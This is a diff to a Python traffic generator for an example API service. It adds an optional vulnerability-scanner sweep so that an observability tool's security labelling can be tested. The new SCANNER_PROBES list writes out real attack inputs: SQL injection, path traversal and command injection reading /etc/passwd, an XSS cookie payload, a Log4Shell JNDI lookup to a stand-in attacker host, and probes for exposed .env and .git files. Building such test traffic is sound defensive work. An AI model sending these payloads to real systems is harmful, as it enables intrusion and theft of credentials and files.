@@ -3,8 +3,11 @@ succeed and fail, admin probing, rate-limit bursts, slow reports, errors, invali
 burst of failed logins against one account from one source. Requests carry the API key of one of
 a few tenants with different usage profiles (an enterprise tenant hammering the order-detail
 endpoint, a mid-size one, a handful of small ones), so the ``otel-ext report`` shows pricing tiers.
+With ``--scanner`` a vulnerability scanner also sweeps the service from one address (SQL injection,
+path traversal, XSS, Log4Shell, exposed-file probes, an attack-tool user agent): those records
+arrive labelled ``security`` with OWASP ``malicious_*`` actions.
 
-    python -m examples.api_service.traffic --url http://127.0.0.1:8000 --requests 400
+    python -m examples.api_service.traffic --url http://127.0.0.1:8000 --requests 400 [--scanner]
 """
 
 from __future__ import annotations
@@ -41,7 +44,25 @@ TENANTS = (
 )
 
 
-def run(url: str, requests: int, seed: int = 1, burst: bool = True, tenants: bool = True) -> Counter[int]:
+SCANNER_SOURCE = "203.0.113.200"
+SCANNER_PROBES: tuple[tuple[str, str, str], ...] = (
+    # (method, path with query, user agent): what a real scanner sweep sends to an API
+    ("GET", "/api/orders?id=1%27%20OR%20%271%27%3D%271", "sqlmap/1.8.4#stable (https://sqlmap.org)"),
+    ("GET", "/api/orders?id=1%20UNION%20SELECT%20username,password%20FROM%20users--", "Mozilla/5.0"),
+    ("GET", "/api/orders?file=../../../../etc/passwd", "Mozilla/5.0"),
+    ("GET", "/api/orders?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", "Mozilla/5.0"),
+    ("GET", "/api/orders?x=${jndi:ldap://203.0.113.200:1389/a}", "Mozilla/5.0"),
+    ("GET", "/.env", "Mozilla/5.0 (compatible; Nikto/2.5.0)"),
+    ("GET", "/.git/config", "Mozilla/5.0"),
+    ("GET", "/wp-login.php", "Mozilla/5.0"),
+    ("GET", "/actuator/env", "Mozilla/5.0"),
+    ("GET", "/api/orders?cmd=;cat%20/etc/passwd", "Mozilla/5.0"),
+)
+"""A scanner's sweep: every request here is an attack or a probe and must be labelled as one."""
+
+
+def run(url: str, requests: int, seed: int = 1, burst: bool = True, tenants: bool = True,
+        scanner: bool = False) -> Counter[int]:
     rnd = random.Random(seed)
     trnd = random.Random(seed + 7919)  # tenants draw from their own stream: the request mix stays the same
     tenant: Tenant | None = None
@@ -50,6 +71,8 @@ def run(url: str, requests: int, seed: int = 1, burst: bool = True, tenants: boo
 
     def call(method: str, path: str, body: dict[str, object] | None = None, **headers: str) -> None:
         hdrs = {"User-Agent": "shop-traffic/1.0", **{k.replace("_", "-"): v for k, v in headers.items()}}
+        if "user-agent" in hdrs:
+            hdrs["User-Agent"] = hdrs.pop("user-agent")
         if tenant is not None:
             hdrs.setdefault("x-api-key", tenant.api_key)
         data = json.dumps(body).encode() if body is not None else None
@@ -68,6 +91,9 @@ def run(url: str, requests: int, seed: int = 1, burst: bool = True, tenants: boo
             for _ in range(12):  # no API key: an attacker
                 call("POST", "/api/login", {"username": "admin", "password": f"guess{rnd.randint(0, 9999)}"},
                      x_forwarded_for="203.0.113.66", x_api_key="")
+        if scanner and i == requests // 2:  # a vulnerability scanner sweeps the API from one address
+            for method, target, agent in SCANNER_PROBES:
+                call(method, target, user_agent=agent, x_forwarded_for=SCANNER_SOURCE, x_api_key="")
         if p < 0.40:
             call("GET", "/api/orders", x_forwarded_for=client)
         elif p < 0.50:
@@ -101,8 +127,10 @@ def main() -> None:
     parser.add_argument("--requests", type=int, default=400)
     parser.add_argument("--seed", type=int, default=1)
     parser.add_argument("--no-tenants", action="store_true", help="send no API keys")
+    parser.add_argument("--scanner", action="store_true", help="add a vulnerability scanner's sweep")
     args = parser.parse_args()
-    print(dict(sorted(run(args.url.rstrip("/"), args.requests, args.seed, tenants=not args.no_tenants).items())))
+    print(dict(sorted(run(args.url.rstrip("/"), args.requests, args.seed, tenants=not args.no_tenants,
+                          scanner=args.scanner).items())))
 
 
 if __name__ == "__main__":
